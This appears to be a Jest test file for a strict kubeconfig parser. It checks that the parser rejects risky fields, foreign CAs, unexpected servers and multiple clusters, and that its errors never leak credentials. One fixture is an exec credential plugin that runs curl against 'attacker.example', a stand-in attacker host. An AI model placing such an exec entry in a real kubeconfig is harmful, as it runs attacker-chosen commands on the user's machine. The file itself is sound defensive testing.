import { describe, expect, it } from '@jest/globals';
import { stringify } from 'yaml';
import { issueCertificate } from '../../contracts/certificates.js';
import type { KubeconfigRejectedError } from './strict-kubeconfig.js';
import { readStrictKubeconfig, writeKubeconfig } from './strict-kubeconfig.js';

const b64 = (text: string): string => Buffer.from(text).toString('base64');
const ca = issueCertificate({
  commonName: 'api.guest.example',
  isCa: true,
  keyCertSign: true,
  validityDays: 1,
});
const otherCa = issueCertificate({
  commonName: 'api.guest.example',
  isCa: true,
  keyCertSign: true,
  validityDays: 1,
});
const client = issueCertificate({
  commonName: 'system:admin',
  issuer: ca,
  isCa: false,
  clientAuth: true,
  validityDays: 1,
});
const SERVER = 'https://api.guest.example:443';
const expected = { servers: ['https://api.guest.example'], ca: ca.certificatePem };

type Fields = Record<string, unknown>;

/** A valid kubeconfig, changed by `edit` (which may add, replace or delete anything). */
function kubeconfig(
  edit: (file: Fields & { clusters: Fields[]; users: Fields[] }) => void = () => undefined,
): string {
  const file = {
    apiVersion: 'v1',
    kind: 'Config',
    clusters: [
      {
        name: 'guest',
        cluster: { server: SERVER, 'certificate-authority-data': b64(ca.certificatePem) },
      },
    ] as Fields[],
    users: [
      {
        name: 'admin',
        user: {
          'client-certificate-data': b64(client.certificatePem),
          'client-key-data': b64(client.keyPem),
        },
      },
    ] as Fields[],
    contexts: [{ name: 'admin', context: { cluster: 'guest', user: 'admin' } }],
    'current-context': 'admin',
  };
  edit(file);
  return stringify(file);
}

const cluster = (file: { clusters: Fields[] }): Fields => file.clusters[0]!.cluster as Fields;
const user = (file: { users: Fields[] }): Fields => file.users[0]!.user as Fields;

function rejection(text: string, expectations = expected): KubeconfigRejectedError {
  try {
    readStrictKubeconfig(text, expectations);
  } catch (error) {
    return error as KubeconfigRejectedError;
  }
  throw new Error('the kubeconfig was accepted');
}

describe('readStrictKubeconfig', () => {
  it('reads one cluster, user and context with inline credentials', () => {
    expect(readStrictKubeconfig(kubeconfig(), expected)).toEqual({
      server: 'https://api.guest.example',
      ca: ca.certificatePem,
      credentials: { cert: client.certificatePem, key: client.keyPem },
    });
  });

  it('reads an inline token', () => {
    const text = kubeconfig((f) => (f.users[0]!.user = { token: 'sha256~abc' }));
    expect(readStrictKubeconfig(text, expected).credentials).toEqual({ token: 'sha256~abc' });
  });

  it.each([
    ['tokenFile', { tokenFile: '/var/run/secrets/kubernetes.io/serviceaccount/token' }],
    ['exec', { exec: { command: 'curl', args: ['https://attacker.example'] } }],
    ['auth-provider', { 'auth-provider': { name: 'oidc' } }],
    ['client-certificate', { 'client-certificate': '/etc/pki/client.crt' }],
    ['client-key', { 'client-key': '/etc/pki/client.key' }],
    ['as', { as: 'system:admin' }],
    ['username', { username: 'admin', password: 'secret' }],
  ])('refuses users[0].user.%s', (field, fields) => {
    const error = rejection(kubeconfig((f) => (f.users[0]!.user = { ...user(f), ...fields })));
    expect(error.field).toBe(`users[0].user.${field}`);
    expect(error.message).toContain('is not allowed');
  });

  it.each([
    ['certificate-authority', '/etc/pki/ca.crt'],
    ['insecure-skip-tls-verify', true],
    ['proxy-url', 'http://127.0.0.1:3128'],
    ['tls-server-name', 'api.other.example'],
    ['extensions', []],
  ])('refuses clusters[0].cluster.%s', (field, value) => {
    const error = rejection(kubeconfig((f) => (cluster(f)[field] = value)));
    expect(error.field).toBe(`clusters[0].cluster.${field}`);
  });

  it.each([
    ['http://api.guest.example', 'not https://<host>[:<port>]'],
    ['https://127.0.0.1:6443', "not the instance's endpoint https://api.guest.example"],
    ['https://api.guest.example:6443', "not the instance's endpoint"],
    ['https://user@api.guest.example', 'not https://<host>[:<port>]'],
    ['https://api.guest.example/proxy', 'not https://<host>[:<port>]'],
  ])('refuses the server %s', (server, problem) => {
    const error = rejection(kubeconfig((f) => (cluster(f).server = server)));
    expect(error.field).toBe('clusters[0].cluster.server');
    expect(error.message).toContain(problem);
  });

  it('accepts the expected server with or without the default port', () => {
    const text = kubeconfig((f) => (cluster(f).server = 'https://API.guest.example'));
    expect(readStrictKubeconfig(text, { servers: [SERVER] }).server).toBe(
      'https://api.guest.example',
    );
  });

  it('refuses a CA other than the one the operator issued', () => {
    const text = kubeconfig(
      (f) => (cluster(f)['certificate-authority-data'] = b64(otherCa.certificatePem)),
    );
    expect(rejection(text).message).toBe(
      'clusters[0].cluster.certificate-authority-data is not the CA the operator issued for this instance',
    );
    // Without an expected CA, any inline certificate will do.
    expect(readStrictKubeconfig(text, { servers: [SERVER] }).ca).toBe(otherCa.certificatePem);
  });

  it.each([
    [
      'a second cluster',
      (f: Fields & { clusters: Fields[] }) => f.clusters.push(f.clusters[0]!),
      'clusters',
    ],
    [
      'a second user',
      (f: Fields & { users: Fields[] }) => f.users.push({ name: 'x', user: { token: 't' } }),
      'users',
    ],
    ['no contexts', (f: Fields) => delete f.contexts, 'contexts'],
    [
      'a current-context of another name',
      (f: Fields) => (f['current-context'] = 'other'),
      'current-context',
    ],
    ['an unknown top-level key', (f: Fields) => (f['extensions'] = []), 'kubeconfig.extensions'],
  ])('refuses %s', (_what, edit, field) => {
    expect(rejection(kubeconfig(edit as never)).field).toBe(field);
  });

  it('refuses a key that does not match its certificate, naming the field', () => {
    const stranger = issueCertificate({
      commonName: 'x',
      issuer: ca,
      isCa: false,
      clientAuth: true,
      validityDays: 1,
    });
    const error = rejection(kubeconfig((f) => (user(f)['client-key-data'] = b64(stranger.keyPem))));
    expect(error.message).toBe(
      'users[0].user.client-key-data does not match client-certificate-data',
    );
  });

  it('never quotes a credential in its message', () => {
    const text = kubeconfig(
      (f) => (f.users[0]!.user = { token: 'sha256~SECRET', tokenFile: '/x' }),
    );
    expect(rejection(text).message).not.toContain('SECRET');
    expect(rejection('users: [{name: a, user: {token: "sha256~SECRET"}}\n  - :').message).toBe(
      'kubeconfig is not valid YAML',
    );
  });
});

describe('writeKubeconfig', () => {
  it('writes a kubeconfig the strict reader reads back, and nothing else', () => {
    const access = readStrictKubeconfig(kubeconfig(), expected);
    const text = writeKubeconfig(access, 'guest');
    expect(readStrictKubeconfig(text, expected)).toEqual(access);
    expect(text).not.toContain('preferences');
  });
});
